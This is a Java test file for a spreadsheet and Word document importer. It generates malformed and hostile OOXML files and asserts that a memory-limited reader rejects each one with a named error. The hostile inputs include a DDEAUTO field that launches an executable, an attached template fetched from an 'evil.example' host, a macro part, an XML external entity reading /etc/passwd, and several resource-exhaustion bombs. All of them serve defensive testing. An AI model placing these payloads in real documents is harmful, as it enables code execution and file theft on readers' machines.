package kz.birlik.plans.importing.file;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import kz.birlik.plans.testing.Docx;
import kz.birlik.plans.testing.Table;

/** Files built to fill the memory of their reader, read by one that has 128 MiB: half of what the service has for all it does. */
class SmallHeapTest {

    private static final String SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    @TempDir
    Path folder;

    @Test
    void hostileFilesEndWithAProblemAndLargeOnesAreRead() throws Exception {
        texts("a-texts.xlsx", 3_000_000);
        styles("b-styles.xlsx");
        attribute("c-attribute.xlsx");
        deep("d-deep.xlsx");
        cells("e-cells.xlsx");
        cdata("f-cdata.xlsx");
        document("g-paragraph.docx", "<w:p><w:r>" + "<w:t>слово </w:t>".repeat(10_000) + "</w:r></w:p>");
        document("h-columns.docx", new Docx().table(1).xml("<w:tr>" + "<w:tc/>".repeat(50_000)));
        document("i-span.docx", new Docx().table(1).row(Docx.spanning(2_000_000_000, "x")));
        document("j-deep.docx", "<w:sdt>".repeat(100_000));
        document("k-dde.docx", "<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p>");
        document("l-template.docx", new Docx().part("word/_rels/settings.xml.rels", template()));
        document(
                "m-link.docx",
                new Docx().part("word/_rels/document.xml.rels", hyperlink()).paragraph("Ссылка"));
        document("n-macros.docx", new Docx().part("word/vbaProject.bin", "x"));
        document(
                "o-entity.docx",
                new Docx().part("word/numbering.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x/>"));
        document("p-utf16.docx", new Docx().part("word/styles.xml", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><x/>"));
        document("q-broken.docx", new Docx().table(3).row("1", "2", "3").xml("<w:p>"));
        Files.write(folder.resolve("r-other.xlsx"), new Docx().paragraph("x").bytes());
        rows("y-rows.docx", 60_000);
        Files.write(
                folder.resolve("z-plan.xlsx"),
                Table.usual().measure("1", "Форум").xlsx());

        assertThat(readAll())
                .containsExactlyInAnyOrderEntriesOf(Map.ofEntries(
                        Map.entry("a-texts.xlsx", "too-many-texts"),
                        Map.entry("b-styles.xlsx", "rows=1"),
                        Map.entry("c-attribute.xlsx", "file-inflates"),
                        Map.entry("d-deep.xlsx", "file-broken"),
                        Map.entry("e-cells.xlsx", "too-many-columns"),
                        Map.entry("f-cdata.xlsx", "cell-too-long"),
                        Map.entry("g-paragraph.docx", "cell-too-long"),
                        Map.entry("h-columns.docx", "too-many-columns"),
                        Map.entry("i-span.docx", "too-many-columns"),
                        Map.entry("j-deep.docx", "file-broken"),
                        Map.entry("k-dde.docx", "file-links-elsewhere"),
                        Map.entry("l-template.docx", "file-links-elsewhere"),
                        Map.entry("m-link.docx", "rows=1"),
                        Map.entry("n-macros.docx", "file-has-macros"),
                        Map.entry("o-entity.docx", "file-has-entities"),
                        Map.entry("p-utf16.docx", "file-broken"),
                        Map.entry("q-broken.docx", "file-broken"),
                        Map.entry("r-other.xlsx", "unsupported-media-type"),
                        Map.entry("y-rows.docx", "rows=60000"),
                        Map.entry("z-plan.xlsx", "rows=5")));
    }

    private Map<String, String> readAll() throws IOException, InterruptedException {
        var process = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-Xmx128m",
                        "-XX:+UseSerialGC",
                        "-cp",
                        System.getProperty("java.class.path"),
                        SmallHeap.class.getName(),
                        folder.toString())
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
        var became = new TreeMap<String, String>();
        try (var lines = process.inputReader(StandardCharsets.UTF_8)) {
            for (var line = lines.readLine(); line != null; line = lines.readLine()) {
                var words = line.split(" ");
                became.put(words[0], words[1]);
            }
        }
        assertThat(process.waitFor(1, TimeUnit.MINUTES)).isTrue();
        assertThat(process.exitValue()).as("the reader ran out of memory").isZero();
        return became;
    }

    private void texts(String name, int count) throws IOException {
        workbook(name, "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>", "xl/sharedStrings.xml", out -> {
            write(out, "<sst xmlns=\"" + SHEET + "\">");
            for (var i = 0; i < count; i++) {
                write(out, "<si><t>" + Integer.toHexString(i * 7919) + "</t></si>");
            }
            write(out, "</sst>");
        });
    }

    private void styles(String name) throws IOException {
        workbook(name, "<row r=\"1\"><c r=\"A1\" s=\"3\"><v>46174</v></c></row>", "xl/styles.xml", out -> {
            write(out, "<styleSheet xmlns=\"" + SHEET + "\"><cellXfs>");
            for (var i = 0; i < 2_000_000; i++) {
                write(out, "<xf numFmtId=\"" + i % 50 + "\"/>");
            }
            write(out, "</cellXfs></styleSheet>");
        });
    }

    private void attribute(String name) throws IOException {
        workbook(name, "<row r=\"1\"><c r=\"" + noise(3 << 20) + "\"/></row>", null, null);
    }

    private void deep(String name) throws IOException {
        workbook(name, "<row>" + "<x>".repeat(300_000), null, null);
    }

    private void cells(String name) throws IOException {
        workbook(name, "<row r=\"1\">" + "<c><v>1</v></c>".repeat(60_000) + "</row>", null, null);
    }

    private void cdata(String name) throws IOException {
        workbook(
                name,
                "<row r=\"1\"><c t=\"str\"><v>" + "<![CDATA[текст]]>".repeat(40_000) + "</v></c></row>",
                null,
                null);
    }

    private void rows(String name, int count) throws IOException {
        var docx = new Docx().table(5);
        for (var i = 0; i < count; i++) {
            docx.row(String.valueOf(i), "Мероприятие " + Integer.toHexString(i * 7919), "МКИ", "май", "1");
        }
        document(name, docx.end());
    }

    private void document(String name, String body) throws IOException {
        document(name, new Docx().xml(body));
    }

    private void document(String name, Docx docx) throws IOException {
        Files.write(folder.resolve(name), docx.bytes());
    }

    /** What a part is made of, written as it goes: some are larger than this test's own memory should be. */
    private interface Content {
        void to(OutputStream out) throws IOException;
    }

    private void workbook(String name, String rows, String part, Content content) throws IOException {
        try (var zip = new ZipOutputStream(new BufferedOutputStream(Files.newOutputStream(folder.resolve(name))))) {
            var types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                    + type("/xl/workbook.xml", "sheet.main") + type("/xl/worksheets/sheet1.xml", "worksheet")
                    + type("/xl/styles.xml", "styles") + type("/xl/sharedStrings.xml", "sharedStrings") + "</Types>";
            put(zip, "[Content_Types].xml", out -> write(out, types));
            put(zip, "_rels/.rels", out -> write(out, relationship("officeDocument", "xl/workbook.xml")));
            put(
                    zip,
                    "xl/_rels/workbook.xml.rels",
                    out -> write(out, relationship("worksheet", "worksheets/sheet1.xml")));
            put(
                    zip,
                    "xl/workbook.xml",
                    out -> write(
                            out,
                            "<workbook xmlns=\"" + SHEET + "\""
                                    + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                                    + "<sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"));
            put(
                    zip,
                    "xl/worksheets/sheet1.xml",
                    out -> write(
                            out, "<worksheet xmlns=\"" + SHEET + "\"><sheetData>" + rows + "</sheetData></worksheet>"));
            if (part != null) {
                put(zip, part, content);
            }
        }
    }

    private static String type(String part, String kind) {
        return "<Override PartName=\"%s\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.%s+xml\"/>"
                .formatted(part, kind);
    }

    private static String relationship(String kind, String target) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\"/></Relationships>"
                        .formatted(kind, target);
    }

    private static String template() {
        return relationship("attachedTemplate", "http://evil.example/t.dotm\" TargetMode=\"External");
    }

    private static String hyperlink() {
        return relationship("hyperlink", "https://adilet.zan.kz\" TargetMode=\"External");
    }

    private static String noise(int letters) {
        var random = new java.util.Random(5);
        return random.ints(letters, 'A', 'Z')
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    private static void put(ZipOutputStream zip, String name, Content content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        content.to(zip);
        zip.closeEntry();
    }

    private static void write(OutputStream out, String text) throws IOException {
        out.write(text.getBytes(StandardCharsets.UTF_8));
    }
}
